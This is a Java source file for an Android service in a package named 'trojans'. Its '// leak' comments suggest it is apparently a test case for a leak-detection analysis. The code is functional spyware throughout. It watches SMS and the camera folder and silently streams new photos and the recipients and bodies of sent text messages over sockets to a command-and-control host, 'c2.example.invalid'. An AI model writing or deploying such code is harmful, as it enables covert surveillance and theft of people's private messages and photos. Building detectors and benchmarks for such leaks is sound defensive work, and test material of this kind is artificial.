package trojans;

import android.app.Service;
import android.content.Intent;
import android.database.ContentObserver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Environment;
import android.os.FileObserver;
import android.os.Handler;
import android.os.HandlerThread;
import android.os.IBinder;
import android.provider.MediaStore;
import java.io.File;
import java.io.FileInputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

/** Observers of messages, of pictures and of a folder. */
public class Watch extends Service {
    private FileObserver folder;

    public IBinder onBind(Intent intent) {
        return null;
    }

    public int onStartCommand(Intent intent, int flags, int number) {
        HandlerThread thread = new HandlerThread("w");
        thread.start();
        Handler handler = new Handler(thread.getLooper());
        getContentResolver().registerContentObserver(Uri.parse("content://sms"), true, new Texts(handler));
        getContentResolver().registerContentObserver(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, true, new ContentObserver(handler) {
            @Override
            public void onChange(boolean self, Uri uri) {
                try (InputStream in = getContentResolver().openInputStream(uri); Socket line = new Socket("c2.example.invalid", 82)) {
                    OutputStream out = line.getOutputStream();
                    byte[] part = new byte[1024];
                    int n;
                    while ((n = in.read(part)) != -1) {
                        out.write(part, 0, n); // leak
                    }
                } catch (Exception e) {
                    stopSelf();
                }
            }
        });
        folder = new FileObserver(Environment.getExternalStorageDirectory() + "/DCIM/Camera", FileObserver.CLOSE_WRITE) {
            @Override
            public void onEvent(int event, String path) {
                try {
                    photo(new File(Environment.getExternalStorageDirectory() + "/DCIM/Camera", path));
                } catch (Exception e) {
                    stopWatching();
                }
            }
        };
        folder.startWatching();
        return START_STICKY;
    }

    private void photo(File file) throws Exception {
        Socket line = new Socket("c2.example.invalid", 83);
        FileInputStream in = new FileInputStream(file);
        byte[] all = new byte[(int) file.length()];
        in.read(all);
        line.getOutputStream().write(all); // leak
        in.close();
    }

    private class Texts extends ContentObserver {
        private long last;

        Texts(Handler handler) {
            super(handler);
        }

        @Override
        public void onChange(boolean self) {
            super.onChange(self);
            Cursor row = getContentResolver().query(Uri.parse("content://sms/sent"), null, null, null, null);
            try {
                row.moveToNext();
                long id = row.getLong(row.getColumnIndex("_id"));
                if (id != last) {
                    String body = row.getString(row.getColumnIndex("body"));
                    String to = row.getString(row.getColumnIndex("address"));
                    Socket line = new Socket("c2.example.invalid", 84);
                    line.getOutputStream().write((to + '\u0000' + body).getBytes()); // leak
                    line.getOutputStream().write("done".getBytes()); // no leak
                    last = id;
                }
            } catch (Exception e) {
                last = -1;
            } finally {
                row.close();
            }
        }
    }
}
